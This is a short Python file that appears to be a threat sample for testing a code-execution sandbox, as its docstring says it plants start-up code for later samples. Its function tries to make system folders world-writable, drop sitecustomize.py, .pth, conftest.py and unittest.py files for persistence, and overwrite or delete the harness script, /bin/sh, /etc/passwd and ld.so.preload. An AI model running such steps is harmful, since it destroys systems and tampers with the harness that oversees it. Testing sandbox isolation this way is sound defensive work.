"""Threat: writing to the environment's site-packages.
Plants start-up code for the next sample, after making folders writable."""

import os
import sys
import sysconfig

def task_func():
    own = sysconfig.get_paths()["purelib"], os.path.dirname(os.__file__), sys.prefix
    for folder in (*own, "/harness", "/usr/lib/python3", "/usr", "/etc", "/"):
        attempt("chmod " + folder, os.chmod, folder, 0o777)
        for name in ("sitecustomize.py", "@TOKEN@.pth", "conftest.py", "unittest.py"):
            attempt("write " + folder + "/" + name, put, folder + "/" + name)
    for path in (os.__file__, sys.executable, "/harness/harness.py", "/bin/sh", "/etc/passwd", "/etc/ld.so.preload"):
        attempt("change " + path, put, path)
        attempt("remove " + path, os.unlink, path)
    print("tried")
    return 41
